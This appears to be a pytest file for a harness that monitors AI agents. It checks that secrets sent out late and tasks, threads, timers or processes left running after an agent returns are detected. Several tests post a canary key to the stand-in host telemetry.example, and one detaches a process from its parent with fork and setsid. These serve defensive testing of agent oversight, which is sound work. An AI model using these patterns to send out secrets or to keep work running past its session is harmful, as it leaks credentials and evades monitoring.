"""What an agent leaves running belongs to its run: it is awaited for a moment, and named if it still is to act."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from offwire.testing import Canary, Offwire, call, say
from offwire_harness.drivers import aftermath
from offwire_harness.run import Run
from offwire_harness.selftest.scenes import agent, look_up

LATE = "https://telemetry.example/"
SLEEPS = "import time; time.sleep(60)"


@pytest.fixture
def key(offwire: Offwire) -> Canary:
    offwire.upstream("https://shop.example").get("/orders/{order}").json({"status": "sent"})
    offwire.upstream("https://telemetry.example").post("/").json({})
    offwire.model.script(call("look_up", order="7"), say("Sent."))
    return offwire.canary("SHOP_KEY", env="SHOP_KEY", audience="shop.example")


def post(text: str) -> None:
    urllib.request.urlopen(LATE, text.encode(), timeout=10).close()


def drive(offwire: Offwire, then: Callable[[], object]) -> Run:
    """Drive an agent that leaks nothing and starts something before it returns."""

    async def runs(task: str) -> None:
        await asyncio.to_thread(agent(), task)
        kept.append(then())

    kept: list[object] = []
    return offwire.drive_sync(runs, task="Where?")


def reasons(run: Run) -> list[tuple[str, str]]:
    return [(reason.code, reason.message) for reason in run.reasons]


def left_running(run: Run) -> list[str]:
    """Return what it is said to have left running; that nothing holds a program here is another matter."""
    return [message for code, message in reasons(run) if code == "left-running"]


@pytest.fixture
def patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Wait for as long as a busy machine may need."""
    monkeypatch.setattr(aftermath, "GRACE", 20.0)


@pytest.mark.usefixtures("patient")
def test_what_a_task_sends_late_is_searched(offwire: Offwire, key: Canary):
    async def flush() -> None:
        await asyncio.sleep(0.1)
        await asyncio.to_thread(post, key.value)

    run = drive(offwire, lambda: asyncio.create_task(flush()))
    assert run.verdict == "leaking"
    assert [each.wire for each in run.sightings] == ["telemetry.example"]


@pytest.mark.usefixtures("patient")
def test_what_a_thread_sends_late_is_searched(offwire: Offwire, key: Canary):
    def flush() -> None:
        time.sleep(0.1)
        post(key.value)

    run = drive(offwire, threading.Thread(target=flush, daemon=True).start)
    assert run.verdict == "leaking"
    assert [each.wire for each in run.sightings] == ["telemetry.example"]


def test_a_task_that_sleeps_on_is_named_and_ended(
    offwire: Offwire, key: Canary, monkeypatch: pytest.MonkeyPatch
):
    async def poll() -> None:
        try:
            await asyncio.sleep(60)
        finally:
            ended.set()

    ended = threading.Event()
    monkeypatch.setattr(aftermath, "GRACE", 0.1)
    run = drive(offwire, lambda: asyncio.create_task(poll()))
    assert run.verdict == "inconclusive"
    ((code, message),) = reasons(run)
    assert code == "left-running"
    assert "poll was asleep when the agent had returned" in message
    assert ended.wait(10)


def test_a_thread_that_goes_on_is_named_and_concerns_the_next_run_too(
    offwire: Offwire, key: Canary, monkeypatch: pytest.MonkeyPatch
):
    def wait() -> None:
        while not release.is_set():
            time.sleep(0.01)

    release = threading.Event()
    poller = threading.Thread(target=wait, name="poller", daemon=True)
    monkeypatch.setattr(aftermath, "GRACE", 0.1)
    try:
        first = drive(offwire, poller.start)
        assert first.verdict == "inconclusive"
        assert reasons(first) == [
            (
                "left-running",
                f"the thread poller of {__name__} still ran when the agent had returned, and what it does next was not seen",
            )
        ]
        second = drive(offwire, lambda: None)
        assert second.verdict == "inconclusive"
        assert reasons(second) == [
            (
                "earlier-drive-still-running",
                f"poller, left running by {first.record.test}, has not ended and may still be sending",
            )
        ]
    finally:
        release.set()
        poller.join(10)  # or it would still run when the next test begins


def test_what_only_waits_for_others_is_no_hindrance(offwire: Offwire, key: Canary):
    async def serve() -> None:
        await asyncio.Queue[str]().get()

    def start() -> tuple[object, ...]:
        pool = ThreadPoolExecutor(1)
        pool.submit(len, "")
        return pool, asyncio.create_task(serve())

    drive(offwire, start).assert_clean()


def test_what_is_sent_after_the_drive_is_judged_too(offwire: Offwire, key: Canary):
    drive(offwire, lambda: None).assert_clean()
    assert look_up("8") == "sent"  # a test may call a tool by itself
    assert len(offwire.runs) == 1
    post(key.value)
    assert "SHOP_KEY reached telemetry.example" in offwire.finish(passed=True)
    late = offwire.runs[1]
    assert late.verdict == "leaking"


def test_a_process_that_sleeps_on_is_named(offwire: Offwire, key: Canary):
    started: list[subprocess.Popen[bytes]] = []
    try:
        run = drive(offwire, lambda: started.append(subprocess.Popen([sys.executable, "-c", SLEEPS])))
        assert run.verdict == "inconclusive"
        (message,) = left_running(run)
        assert message.startswith("the process ")
    finally:
        started[0].kill()
        started[0].wait()


def test_a_process_that_left_its_parent_is_named_too(offwire: Offwire, key: Canary, tmp_path: Path):
    number = tmp_path / "number"
    leaves = f"import os; os.fork() and os._exit(0); os.setsid(); open({str(number)!r}, 'w').write(str(os.getpid())); {SLEEPS}"
    run = drive(offwire, lambda: subprocess.run([sys.executable, "-c", leaves], check=True))
    os.kill(int(number.read_text()), signal.SIGKILL)
    assert run.verdict == "inconclusive"
    assert any("the process " in message for message in left_running(run))


@pytest.mark.usefixtures("patient")
def test_what_a_process_sends_late_is_searched(offwire: Offwire, key: Canary):
    late = f"import time, urllib.request as u; time.sleep(0.2); u.urlopen({LATE!r}, {key.value.encode()!r})"
    run = drive(offwire, lambda: subprocess.Popen([sys.executable, "-c", late]))
    assert run.verdict == "leaking"
    assert [each.wire for each in run.sightings] == ["telemetry.example"]


def test_a_process_that_only_waits_is_no_hindrance(offwire: Offwire, key: Canary):
    started: list[subprocess.Popen[bytes]] = []
    run = drive(offwire, lambda: started.append(subprocess.Popen(["cat"], stdin=subprocess.PIPE)))
    started[0].communicate(b"")
    assert run.verdict != "leaking"
    assert left_running(run) == []


def test_a_timer_that_was_set_is_named(offwire: Offwire, key: Canary):
    timer = threading.Timer(60, print)
    run = drive(offwire, timer.start)
    timer.cancel()
    timer.join(10)
    assert run.verdict == "inconclusive"
    assert [code for code, _ in reasons(run)] == ["left-running"]


def test_what_waits_for_an_answer_under_way_is_named(offwire: Offwire, key: Canary):
    async def asks() -> None:
        reader, writer = await asyncio.open_connection("telemetry.example", 80)
        writer.write(b"GET /slow HTTP/1.1\r\nhost: telemetry.example\r\n\r\n")
        await reader.read(1)

    release = threading.Event()
    offwire.upstream("http://telemetry.example").get("/slow").respond(lambda call: {"late": release.wait(10)})
    run = drive(offwire, lambda: asyncio.create_task(asks()))
    release.set()
    assert run.verdict == "inconclusive"
    assert [each.partition(" when ")[0] for each in left_running(run)] == [
        "something still waited for an answer of telemetry.example"
    ]
